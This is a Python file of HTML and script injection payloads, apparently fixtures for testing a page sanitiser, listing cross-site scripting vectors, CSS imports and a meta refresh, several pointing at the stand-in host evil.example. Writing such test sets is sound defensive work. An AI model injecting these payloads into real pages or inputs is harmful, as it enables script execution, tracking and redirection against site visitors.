"""Attacks through the source of a page, a table that grows: each sets the title, or asks a host."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",  # noqa: E501 - one attack a line
    "<form action='https://evil.example/'><input autofocus onfocus=alert(1)></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<style>@\\69mport url(https://evil.example/x.css);</style>",
    "<style>body{background:u\\72l(https://evil.example/x.png)}</style>",
    "<style>p{background:image-set('https://evil.example/x.png' 1x)}</style>",
    "<style>@font-face{font-family:f;src:url(https://evil.example/f.woff2)} p{font-family:f}</style>",  # noqa: E501 - one attack a line
    "<style>p{x:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<div style=\"background:url('https://evil.example/x.png');position:fixed;inset:0\">x</div>",
    "<p style='width:expression(alert(1));behavior:url(https://evil.example/x.htc)'>x</p>",
    "<table background='https://evil.example/x.png'><tr><td>x</table>",
    "<video poster='https://evil.example/x.png' src='https://evil.example/x.mp4'></video>",
    "<img srcset='https://evil.example/x.png 2x' src='https://evil.example/y.png'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
    "<body onload=alert(1) style='background:url(https://evil.example/b.png)'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<archive-bar onclick=alert(1)>x</archive-bar>",
)

REFRESH = "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
"""Goes through every policy: only the sanitiser stops it."""
